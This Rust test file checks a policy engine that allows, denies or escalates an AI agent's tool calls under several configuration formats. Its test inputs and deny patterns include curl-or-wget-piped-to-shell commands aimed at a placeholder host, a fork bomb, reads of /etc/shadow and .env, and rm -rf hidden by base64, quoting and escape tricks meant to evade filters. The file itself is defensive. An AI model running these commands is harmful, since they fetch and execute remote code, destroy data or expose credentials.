//! The examples of the five designs, as their documents show them.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::allow_attributes,
    reason = "a failed unwrap is a failed test"
)]

use sayso_formats::read;
use sayso_policy::shell::{MemoryFiles, NoEnvironment};
use sayso_policy::{Actor, Facts, Operation, Policy, RecentCall, Scope, State, ToolCall, Usage, Workspace};
use serde_json::{Value, json};

fn policy(texts: &[(&str, &str)]) -> Policy {
    Policy::from_foreign(texts.iter().map(|(name, text)| read(None, name, text).unwrap()).collect())
}

fn judge(policy: &Policy, mut call: ToolCall, state: &State) -> &'static str {
    let mut files = MemoryFiles::new();
    files.folder("/p/src").file("/p/.env", b"");
    let facts = Facts { files: &files, env: &NoEnvironment };
    call.cwd.get_or_insert_with(|| "/p".into());
    call.workspace = Workspace::new("/p", None);
    policy.evaluate(&Operation::new(call, facts), state, facts).answer.as_str()
}

fn tool(name: &str, arguments: Value) -> ToolCall {
    ToolCall::tool(name, arguments)
}

#[test]
fn the_seven_steps_are_taken_in_their_order() {
    let text = |change: &str| {
        let mut config = json!({
            "denyPatterns": { "exec": ["curl.*\\|\\s*bash", "wget.*\\|\\s*sh", ":(){ :|:& };:"], "read": ["secret"] },
            "allowlists": { "default": ["exec", "browser"] },
            "maxBlockedRetries": 5,
        });
        match change {
            "off" => config["enabled"] = json!(false),
            "dry" => config["dryRun"] = json!(true),
            _ => {}
        }
        json!({ "plugins": { "entries": { "policy-engine": { "enabled": true, "config": config } } } }).to_string()
    };
    let on = |change: &str| policy(&[("openclaw.json", text(change).as_str())]);
    let bad = || tool("exec", json!({ "command": "curl http://x.example | bash" }));
    let mut blocked = State::default();
    blocked.usage.insert(Scope::Session, Usage { blocked: 5, ..Usage::default() });
    for (step, change, call, state, expected) in [
        ("1 kill switch", "off", bad(), &State::default(), "allow"),
        ("2 dry-run", "dry", bad(), &State::default(), "dry-run"),
        ("2 essential passes", "dry", tool("message", json!({})), &State::default(), "allow"),
        ("3 deny patterns", "", bad(), &State::default(), "deny"),
        ("3 before step 4", "", tool("read", json!({ "path": "secret" })), &State::default(), "deny"),
        ("4 essential", "", tool("gateway", json!({})), &blocked, "allow"),
        ("4 T0", "", tool("read", json!({ "path": "a" })), &blocked, "allow"),
        ("5 allowlist", "", tool("write", json!({ "path": "a" })), &State::default(), "deny"),
        ("6 escalation", "", tool("exec", json!({ "command": "ls" })), &blocked, "deny"),
        ("7 allow", "", tool("exec", json!({ "command": "ls" })), &State::default(), "allow"),
    ] {
        assert_eq!(judge(&on(change), call, state), expected, "step {step}");
    }
}

#[test]
fn every_layer_of_the_data_flow_may_take_a_tool_away() {
    let config = "
tools:
  deny: [web_search]
  byProvider:
    openai: { deny: [bash] }
  subagents:
    tools: { deny: [file_write] }
agents:
  coder:
    tools: { allow: ['group:fs', bash] }
groups:
  team-a:
    tools: { deny: [file_delete] }
    toolsByMember:
      '@Alice': { deny: [file_list] }
";
    let policy = policy(&[("wundr.yaml", config)]);
    let some = |text: &str| Some(text.to_owned());
    let coder = Actor { agent: some("coder"), ..Actor::default() };
    let openai = Actor { provider: some(" OpenAI "), ..Actor::default() };
    let team = Actor { team: some("team-a"), ..Actor::default() };
    let alice = Actor { member: some("alice"), ..team.clone() };
    let subagent = Actor { subagent: true, ..Actor::default() };
    for (name, actor, expected) in [
        ("web_search", &Actor::default(), "deny"),
        ("bash_execute", &Actor::default(), "allow"),
        ("bash_execute", &openai, "deny"),
        ("web_fetch", &coder, "deny"),
        ("file_write", &coder, "allow"),
        ("file_delete", &team, "deny"),
        ("file_delete", &alice, "allow"),
        ("file_list", &alice, "deny"),
        ("file_write", &subagent, "deny"),
        ("session_spawn", &subagent, "deny"),
        ("file_read", &subagent, "allow"),
    ] {
        let mut call = tool(name, json!({}));
        call.actor = actor.clone();
        assert_eq!(judge(&policy, call, &State::default()), expected, "{name} for {actor:?}");
    }
}

#[test]
fn arguments_rates_and_categories_of_wundr_restrict_further() {
    let config = json!({ "tools": {
        "argumentRules": {
            "bash": [
                { "argument": "command", "check": "required" },
                { "argument": "command", "check": "pattern", "pattern": "^git ", "reason": "Only git." },
                { "argument": "command", "check": "max-length", "maxLength": 20 },
                { "argument": "options.shell", "check": "forbidden" },
            ],
            "deploy": [{ "argument": "to", "check": "one-of", "values": ["staging", "1"] }],
        },
        "rateLimits": { "web_search": { "maxInvocations": 2, "windowMs": 1000 } },
        "categories": { "network": { "requiresApproval": true }, "write": { "riskLevel": "high", "deny": ["*_delete"] } },
    } });
    let policy = policy(&[("wundr.json", config.to_string().as_str())]);
    let fresh = State::default();
    for (name, arguments, expected) in [
        ("bash_execute", json!({ "command": "git status" }), "allow"),
        ("exec", json!({ "command": "git status" }), "allow"),
        ("bash_execute", json!({ "command": "Git status" }), "deny"),
        ("bash_execute", json!({ "command": "" }), "deny"),
        ("bash_execute", json!({}), "deny"),
        ("bash_execute", json!({ "command": "git status --porcelain" }), "deny"),
        ("bash_execute", json!({ "command": "git log", "options": { "shell": "sh" } }), "deny"),
        ("bash_execute", json!({ "command": { "x": "git status" } }), "deny"),
        ("deploy", json!({}), "allow"),
        ("deploy", json!({ "to": "staging" }), "allow"),
        ("deploy", json!({ "to": 1 }), "allow"),
        ("deploy", json!({ "to": "prod" }), "deny"),
        ("web_fetch", json!({ "url": "https://x.example" }), "ask"),
        ("file_delete", json!({ "path": "a" }), "deny"),
        ("file_write", json!({ "path": "a" }), "allow"),
    ] {
        assert_eq!(judge(&policy, tool(name, arguments.clone()), &fresh), expected, "{name} {arguments}");
    }
    let recent = |at_ms| RecentCall { tool: "web_search".to_owned(), at_ms };
    for (times, expected) in [(vec![9_500], "ask"), (vec![9_500, 9_600], "deny"), (vec![9_000, 9_600], "ask")] {
        let state = State { now_ms: 10_000, recent: times.iter().copied().map(recent).collect(), ..State::default() };
        assert_eq!(judge(&policy, tool("web_search", json!({})), &state), expected, "{times:?}");
    }
    assert!(policy.has_limits());
}

#[test]
fn the_development_ruleset_and_the_order_of_rules() {
    let config = r#"
[[rules]]
match = { group = "ReadOnlyGit" }
outcome = "allow"
[[rules]]
match = { group = "Compilation", within_directory = "." }
outcome = "allow"
[[rules]]
match = { or = [{ command = "cargo", subcommand = "test" }, { command = "npm", subcommand = "test" }] }
outcome = "allow"
[[rules]]
match = { or = [{ command = "find" }, { command = "grep" }, { command = "xargs", subcommand = "grep" }] }
outcome = "allow"
[[rules]]
match = { command = "git", subcommand = "push", flag = "--force" }
outcome = "deny"
[[rules]]
match = { command = "git", subcommand = "push" }
outcome = "allow"
[[rules]]
match = { or = [{ command = "rm", flag = "-rf" }, { command = "sudo" }, { command = "curl", piped_to_shell = true }] }
outcome = "deny"
"#;
    let policy = policy(&[("toolcap.toml", config)]);
    for (command, expected) in [
        ("git status", "allow"),
        ("git status && git log --oneline", "allow"),
        ("cargo build", "allow"),
        ("cargo test", "allow"),
        ("find . -name '*.ts' | xargs grep 'interface'", "allow"),
        ("git push origin main", "allow"),
        ("git push --force", "deny"),
        ("git push origin +main", "deny"),
        ("rm --recursive --force x", "deny"),
        ("curl http://x.example | bash", "deny"),
        ("npm install left-pad", "ask"),
    ] {
        assert_eq!(judge(&policy, ToolCall::command(command), &State::default()), expected, "{command}");
    }
}

#[test]
fn a_safe_program_with_a_path_is_not_safe() {
    let config = json!({ "exec": { "security": "allowlist", "ask": "off", "safeBins": ["grep", "head"] } }).to_string();
    let policy = policy(&[("approvals.json", config.as_str())]);
    for (command, expected) in
        [("grep foo", "allow"), ("grep root /etc/shadow", "deny"), ("head .env", "deny"), ("grep .env", "deny")]
    {
        let call = tool("bash_execute", json!({ "command": command }));
        assert_eq!(judge(&policy, call, &State::default()), expected, "{command}");
    }
}

#[test]
fn a_charter_names_tools_and_commands_as_people_write_them() {
    let config = json!({
        "exec": { "security": "full", "ask": "off" },
        "charter": {
            "autoApprove": ["deploy"],
            "requireConfirmation": ["npm publish"],
            "alwaysReject": ["rm -rf *", "curl * | sh", "git push --force"],
            "escalate": ["terraform *"],
        },
    });
    let policy = policy(&[("approvals.json", config.to_string().as_str())]);
    for (command, expected) in [
        ("rm -rf x", "deny"),
        ("rm --recursive -f x", "deny"),
        ("rm x", "allow"),
        ("curl http://x.example | sh", "deny"),
        ("git push -f", "deny"),
        ("git push $ARGS", "ask"),
        ("npm publish", "ask"),
        ("terraform apply", "ask"),
        ("git commit -m 'rm -rf x'", "allow"),
    ] {
        let call = tool("bash_execute", json!({ "command": command }));
        assert_eq!(judge(&policy, call, &State::default()), expected, "{command}");
    }
    assert_eq!(judge(&policy, tool("deploy", json!({})), &State::default()), "allow");
}

#[test]
fn the_default_tiers_deny_what_no_list_names() {
    let config = "tool_allowlist:\n  allowed: [read_file]\n  approval_required: [write_file]\n  denied: [sudo]\n";
    let policy = policy(&[("deck.yaml", config)]);
    for (name, expected) in [("read_file", "allow"), ("write_file", "ask"), ("sudo", "deny"), ("mystery", "deny")] {
        assert_eq!(judge(&policy, tool(name, json!({})), &State::default()), expected, "{name}");
    }
}

#[test]
fn several_files_together_give_the_strictest() {
    let deck = "tool_allowlist:\n  allowed: [read_file, exec]\n  approval_required: [write_file]\n";
    let wundr = r#"{"tools": {"deny": ["read_file"]}}"#;
    let engine = r#"{"dryRun": true}"#;
    let both = policy(&[("deck.yaml", deck), ("wundr.json", wundr)]);
    assert_eq!(judge(&both, tool("read_file", json!({})), &State::default()), "deny");
    assert_eq!(judge(&both, tool("write_file", json!({})), &State::default()), "ask");
    assert_eq!(judge(&both, tool("exec", json!({"command": "ls"})), &State::default()), "allow");
    let rehearsed = policy(&[("wundr.json", wundr), ("engine.json", engine)]);
    assert_eq!(judge(&rehearsed, tool("read_file", json!({})), &State::default()), "deny");
    assert_eq!(judge(&rehearsed, tool("exec", json!({"command": "ls"})), &State::default()), "dry-run");
}

#[test]
fn what_is_wrong_is_told_with_file_line_and_key() {
    for (name, text, expected) in [
        ("w.yaml", "tools:\n  deny: bash\n  alow: [x]\n", "w.yaml:3: tools.alow: unknown key; did you mean `allow`?"),
        ("w.json", "{\"tools\": {\n \"profile\": \"codin\"}}", "w.json:2: tools.profile: there is no profile `codin`"),
        (
            "t.json",
            "{\"rules\": [\n {\"match\": {\"group\": \"X\"},\n \"outcome\": \"allow\"}]}",
            "t.json:2: rules[0].match.group: there is no group `X`",
        ),
        ("p.json", "{\"denyPatterns\": {\n\"exec\": [\"(\"]}}", "p.json:2: denyPatterns.exec[0]: "),
        ("w.yaml", "tools: {}\ngroup: {}\n", "w.yaml:2: group: unknown key; did you mean `groups`?"),
        ("d.yaml", "budget: {}\ndefault_actions: deny\n", "d.yaml:2: default_actions: unknown key"),
        ("x.json", "{\"unheard\": 1}", "x.json:1: no format has these keys"),
        (
            "d.yaml",
            "budget:\n  max_tool_calls: many\n",
            "d.yaml:2: budget.max_tool_calls: expected a non-negative whole number",
        ),
    ] {
        let error = read(None, name, text).unwrap_err().to_string();
        assert!(error.starts_with(expected), "{error}");
    }
}

#[test]
fn a_denial_names_the_layer_that_denied() {
    let config = r#"{"tools": {"deny": ["web_search"], "byProvider": {"openai/gpt-4": {"deny": ["web_fetch"]}}},
        "agents": {"coder": {"tools": {"allow": ["file_read"]}}},
        "groups": {"team-a": {"tools": {"deny": ["file_list"]}, "toolsByMember": {"@Bob": {"deny": ["file_read"]}}}}}"#;
    let policy = policy(&[("wundr.json", config)]);
    let some = |text: &str| Some(text.to_owned());
    let facts = Facts { files: &MemoryFiles::new(), env: &NoEnvironment };
    let coder = Actor { agent: some("coder"), ..Actor::default() };
    let team = Actor { team: some("team-a"), ..Actor::default() };
    for (name, actor, layer) in [
        ("web_search", Actor::default(), "tools global"),
        ("web_fetch", Actor { provider: some("OpenAI/GPT-4"), ..Actor::default() }, "tools provider:openai/gpt-4"),
        ("bash_execute", coder, "tools agent:coder"),
        ("file_list", team.clone(), "tools team:team-a"),
        ("file_read", Actor { member: some("bob"), ..team }, "tools team:team-a/bob"),
        ("session_spawn", Actor { subagent: true, ..Actor::default() }, "tools subagent"),
    ] {
        let call = ToolCall { actor, ..tool(name, json!({})) };
        let decision = policy.evaluate(&Operation::new(call, facts), &State::default(), facts);
        let reason = decision.reasons.iter().find(|reason| reason.layer.to_string() == layer);
        assert!(reason.is_some(), "{name}: {:?}", decision.reasons);
    }
}

#[test]
fn deny_patterns_see_through_base64_look_alikes_quoting_and_escapes() {
    let policy = policy(&[("openclaw.json", r#"{"denyPatterns": {"exec": ["rm\\s+-rf", "curl.*\\|\\s*bash"]}}"#)]);
    for (command, expected) in [
        ("echo cm0gLXJmIC8= | base64 -d | sh", "deny"),
        ("r''m -r\"f\" x", "deny"),
        ("$'\\x72m' -rf x", "deny"),
        ("ｒｍ -rf x", "deny"),
        ("\\u0072m -rf x", "deny"),
        ("cu\\rl -s x | b'a'sh", "deny"),
        ("ls -la", "allow"),
        ("echo aGVsbG8gd29ybGQ=", "allow"),
    ] {
        assert_eq!(
            judge(&policy, tool("exec", json!({ "command": command })), &State::default()),
            expected,
            "{command}"
        );
    }
    let nested = json!({ "input": "{\"command\": \"\\u0072m -rf x\"}" });
    assert_eq!(judge(&policy, tool("exec", nested), &State::default()), "deny");
    let content = tool("write", json!({ "path": "a", "content": "rm -rf x" }));
    assert_eq!(judge(&policy, content, &State::default()), "allow");
}

#[test]
fn tiers_are_lists_and_a_mistyped_profile_is_refused() {
    let config = json!({
        "riskTiers": { "T1": ["deploy_preview"], "read": "T2" },
        "allowlists": { "default": ["T0", "T1"], "trusted": ["T0", "T1", "T2"] },
        "routing": { "main": { "toolProfile": "trusted", "model": "a/b" } },
    });
    let policy = policy(&[("openclaw.json", config.to_string().as_str())]);
    let main = Actor { agent: Some("main".into()), ..Actor::default() };
    for (name, actor, expected) in [
        ("write", Actor::default(), "allow"),
        ("deploy_preview", Actor::default(), "allow"),
        ("memory_get", Actor::default(), "allow"),
        ("exec", Actor::default(), "deny"),
        ("read", Actor::default(), "deny"),
        ("nobody_knows", Actor::default(), "deny"),
        ("exec", main.clone(), "allow"),
        ("nobody_knows", main.clone(), "allow"),
        ("gateway", Actor::default(), "allow"),
    ] {
        let call = ToolCall { actor, ..tool(name, json!({})) };
        assert_eq!(judge(&policy, call, &State::default()), expected, "{name}");
    }
    assert_eq!(policy.route(&main, false).model.as_deref(), Some("a/b"));
    let wrong = r#"{"allowlists": {"coding": ["read"]}, "routing": {"x": {"toolProfile": "codng"}}}"#;
    let error = read(None, "openclaw.json", wrong).unwrap_err().to_string();
    assert!(error.contains("did you mean `coding`"), "{error}");
}

#[test]
fn a_budget_at_the_wrong_level_is_refused() {
    for text in [
        "tool_allowlist: {allowed: [a]}\nmax_tool_calls: 5\n",
        "tool_allowlist: {allowed: [a]}\nmax_tool_call: 5\n",
        "default_action: deny\nairlock: {max_cost_cents: 5}\n",
    ] {
        let error = read(Some(sayso_formats::Format::Ferrumdeck), "deck.yaml", text).unwrap_err().to_string();
        assert!(error.contains("budgets stand under `budget`"), "{error}");
    }
}

#[test]
fn builtins_and_scripts_are_listed_by_name_path_and_content() {
    let listed = |entry: Value| {
        let exec = json!({ "exec": { "security": "allowlist", "ask": "on-miss", "allowlist": [entry, "echo"] } });
        policy(&[("exec.json", exec.to_string().as_str())])
    };
    let mut files = MemoryFiles::new();
    files
        .folder("/p")
        .program("/p/build.sh", b"#!/bin/sh\nmake all\n")
        .program("/p/other.sh", b"#!/bin/sh\nmake all\n");
    let facts = Facts { files: &files, env: &NoEnvironment };
    let said = |policy: &Policy, command: &str| {
        let mut call = tool("bash_execute", json!({ "command": command }));
        (call.cwd, call.workspace) = (Some("/p".into()), Workspace::new("/p", None));
        let decision = policy.evaluate(&Operation::new(call, facts), &State::default(), facts);
        (decision.answer.as_str(), decision.reasons[0].text.clone())
    };
    let by_path = listed(json!("/p/build.sh"));
    let (answer, text) = said(&by_path, "./build.sh && echo done");
    assert_eq!(answer, "allow", "{text}");
    // What is said of a call that a file is part of quotes no words.
    let (answer, text) = said(&by_path, "echo a");
    assert_eq!((answer, text.as_str()), ("allow", "The allowlist covers every part: `echo`."));
    assert_eq!(said(&by_path, "./other.sh").0, "ask");
    assert_eq!(said(&by_path, "cd /p").0, "ask");
    // printf '#!/bin/sh\nmake all\n' | sha256sum
    let good = "0a9a1d5ce8ed1e0d1ff1c1c3d2d5c5fd4b2a5a5b0d8f0f0e0d0c0b0a09080706";
    assert_eq!(said(&listed(json!({ "pattern": "/p/build.sh", "sha256": good })), "./build.sh").0, "ask");
    let real = "2098a90f2f9811572f15c3f709bdf4ca3fba9c32b143f2d3415c2305d8f16373";
    assert_eq!(said(&listed(json!({ "pattern": "/p/build.sh", "sha256": real })), "./build.sh").0, "allow");
}

#[test]
fn what_a_charter_escalates_is_for_the_higher_tier() {
    let config = json!({ "exec": { "security": "full", "ask": "off" },
        "charter": { "autoApprove": [], "escalate": ["terraform *"], "escalateTo": ["alice", "sso:leads"] } });
    let policy = policy(&[("exec.json", config.to_string().as_str())]);
    let facts = Facts { files: &MemoryFiles::new(), env: &NoEnvironment };
    let call = tool("bash_execute", json!({ "command": "terraform apply" }));
    let decision = policy.evaluate(&Operation::new(call, facts), &State::default(), facts);
    assert_eq!(decision.answer.as_str(), "ask");
    assert_eq!(decision.addressees()[0].as_ref().unwrap().members, ["alice", "sso:leads"]);
}
